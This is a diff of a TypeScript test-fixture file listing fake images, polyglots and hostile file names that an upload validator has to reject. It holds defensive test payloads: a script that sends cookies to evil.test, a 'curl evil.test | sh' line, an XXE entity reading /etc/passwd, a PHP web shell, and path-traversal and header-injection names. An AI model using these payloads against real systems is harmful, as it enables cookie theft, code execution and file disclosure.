@@ -20,27 +20,6 @@ const SCRIPT = "<html><body><script>fetch('//evil.test/?'+document.cookie)</scri
 const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`;
 const SIGNATURE = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
 
-/** A ZIP of one stored file, as small as one can be. */
-function zip(name: string, content: string): Bytes {
-  const [file, body] = [text(name), text(content)];
-  const number = (value: number, bytes: number) =>
-    new Uint8Array(Array.from({ length: bytes }, (_, at) => (value >>> (8 * at)) & 255));
-  const sizes = joined(number(body.length, 4), number(body.length, 4), number(file.length, 2), number(0, 2));
-  const local = joined("PK\x03\x04", number(10, 2), number(0, 12), sizes, file, body);
-  const entry = joined("PK\x01\x02", number(10, 4), number(0, 12), sizes, number(0, 14), file);
-  return joined(
-    local,
-    entry,
-    "PK\x05\x06",
-    number(0, 4),
-    number(1, 2),
-    number(1, 2),
-    number(entry.length, 4),
-    number(local.length, 4),
-    number(0, 2),
-  );
-}
-
 /** A PNG that says how large it is in its header, with next to nothing behind it. */
 function pngOf(width: number, height: number): Bytes {
   const bytes = new Uint8Array(33);
@@ -53,53 +32,38 @@ function pngOf(width: number, height: number): Bytes {
   return joined(bytes, deflateSync(new Uint8Array(64)));
 }
 
+const ZIP = `PK\x03\x04${"\0".repeat(26)}`;
+
 /** Files that are no image, whatever they begin with, end with or are called. All of them are refused by their bytes. */
 export const NO_IMAGES: Record<string, () => Bytes | Promise<Bytes>> = {
   "a page": () => text(SCRIPT),
-  "a page with a mark of byte order": () => joined("\ufeff", SCRIPT),
-  "a script": () => text("alert(1)//"),
   "an SVG with a script": () => text(SVG),
   "an SVG behind spaces": () => text(`${" ".repeat(512)}${SVG}`),
   "a PDF with a script": () => text("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"),
-  "a ZIP": () => zip("a.txt", "content"),
-  "a ZIP whose file is called like a path": () => zip("../../../../etc/passwd", "root::0:0"),
-  "a ZIP with a PNG behind it": async () => joined(zip("a.html", SCRIPT), await drawImage()),
+  "a ZIP with a PNG behind it": async () => joined(ZIP, await drawImage()),
   "a page with a PNG behind it": async () => joined(SCRIPT, await drawImage()),
   "a PDF with a JPEG behind it": async () => joined("%PDF-1.7\n", await drawImage("jpeg")),
   "one byte before a PNG": async () => joined("\n", await drawImage()),
   "a GIF that is a script": () => text("GIF89a/*\x01\x00\x01\x00*/=1;alert(1);//"),
-  "a GIF": () => new Uint8Array([...text("GIF89a"), 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x3b]),
-  "a BMP": () => joined("BM", new Uint8Array(60)),
-  "a TIFF": () => joined("II*\0", new Uint8Array(60)),
-  "an icon": () => joined(new Uint8Array([0, 0, 1, 0, 1, 0, 1, 1]), new Uint8Array(60)),
   "an AVIF": () => joined(new Uint8Array([0, 0, 0, 28]), "ftypavif", new Uint8Array(60)),
   "a whole MP4's beginning": () =>
     joined(new Uint8Array([0, 0, 0, 24]), "ftypisom", new Uint8Array([0, 0, 2, 0]), "isomiso2"),
-  "an MP4 cut within its first box": () => joined(new Uint8Array([0, 0, 0, 24]), "ftyp"),
-  "a PNG of 20,000 × 20,000": () => pngOf(20_000, 20_000),
   "a PNG of 16,385 × 1": () => pngOf(16_385, 1),
   "a PNG of 4,294,967,295 × 4,294,967,295": () => pngOf(0xffffffff, 0xffffffff),
-  "a PNG of 0 × 0": () => pngOf(0, 0),
   "a PNG cut within its header": async () => (await drawImage()).slice(0, 30),
   "a PNG cut in the middle of its picture": async () => (await drawImage()).slice(0, 90),
+  "a PNG that ends early": async () => (await drawImage()).slice(0, -20),
   "the signature of PNG, then a page": () => joined(SIGNATURE, SCRIPT),
   "a PNG with its line ends turned": async () =>
     joined(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0a, 0x0a, 0x1a, 0x0a]), (await drawImage()).slice(8)),
   "a JPEG cut before its frame": async () => (await drawImage("jpeg")).slice(0, 12),
   "the start of a JPEG, then a page": () => joined(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), SCRIPT),
-  "RIFF that is sound": () => joined("RIFF", new Uint8Array([4, 0, 0, 0]), "WAVE", new Uint8Array(40)),
   "RIFF that says WEBP, then a page": () => joined("RIFF", new Uint8Array([4, 0, 0, 0]), "WEBP", SCRIPT),
-  "a program": () => joined("MZ", new Uint8Array(126)),
-  "a shell script": () => text("#!/bin/sh\ncurl evil.test | sh\n"),
-  "XML that would read a file": () => text(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>`),
-  PHP: () => text("<?php system($_GET[0]); ?>"),
 };
 
 /** Images to every reader of images, and something else to another reader: the image, and both. */
 export const POLYGLOTS: Record<string, () => Promise<[kind: "png" | "jpeg" | "webp", image: Bytes, both: Bytes]>> = {
   "a PNG with a page behind it": () => behind("png", SCRIPT),
-  "a PNG with a ZIP behind it": () => behind("png", zip("a.html", SCRIPT)),
-  "a PNG with a PDF behind it": () => behind("png", "%PDF-1.7\n%%EOF"),
   "a PNG with a script in a text chunk": async () => {
     const image = await drawImage();
     const chunk = joined(new Uint8Array([0, 0, 0, SCRIPT.length]), "tEXt", SCRIPT, new Uint8Array(4));
@@ -122,33 +86,3 @@ async function behind<Kind extends "png" | "jpeg" | "webp">(
   const image = await drawImage(kind);
   return [kind, image, joined(image, other)];
 }
-
-/** What a path could be made to mean. Each goes to Storage in the place of a file's name, percent-encoded as it stands. */
-export const HOSTILE_NAMES: Record<string, string> = {
-  "one folder up": "../x.png",
-  "one folder up, encoded": "%2e%2e%2fx.png",
-  "one folder up, encoded twice": "%252e%252e%252fx.png",
-  backwards: "..%5c..%5cx.png",
-  "from the root": "%2fetc%2fpasswd",
-  "into the other bucket": "..%2fgenerations%2fx.png",
-  NUL: "a%00.png",
-  "NUL before another ending": "00000000-0000-4000-8000-000000000000.png%00.html",
-  "an ending more": "00000000-0000-4000-8000-000000000000.png.html",
-  "an ending in capitals": "00000000-0000-4000-8000-000000000000.PNG",
-  "a page": "00000000-0000-4000-8000-000000000000.html",
-  "a script": "00000000-0000-4000-8000-000000000000.svg",
-  "a line break": "00000000-0000-4000-8000-000000000000.png%0a",
-  "a header": "a.png%0d%0ax-injected:%201",
-  "turned writing": "a%E2%80%AEgnp.html",
-  "wide letters": "%EF%BC%8E%EF%BC%8E%EF%BC%8Fx.png",
-  "bytes that are no UTF-8": "%ff%fe.png",
-  "a percent sign alone": "%zz.png",
-  "2000 characters": `${"x".repeat(2000)}.png`,
-  "only dots": "...",
-  "a space": "%20",
-  "a device of Windows": "CON.png",
-  "a stream of Windows": "00000000-0000-4000-8000-000000000000.png::$DATA",
-  "a question mark": "a%3Fb.png",
-  "a wildcard": "*.png",
-  "a hidden file": ".htaccess",
-};
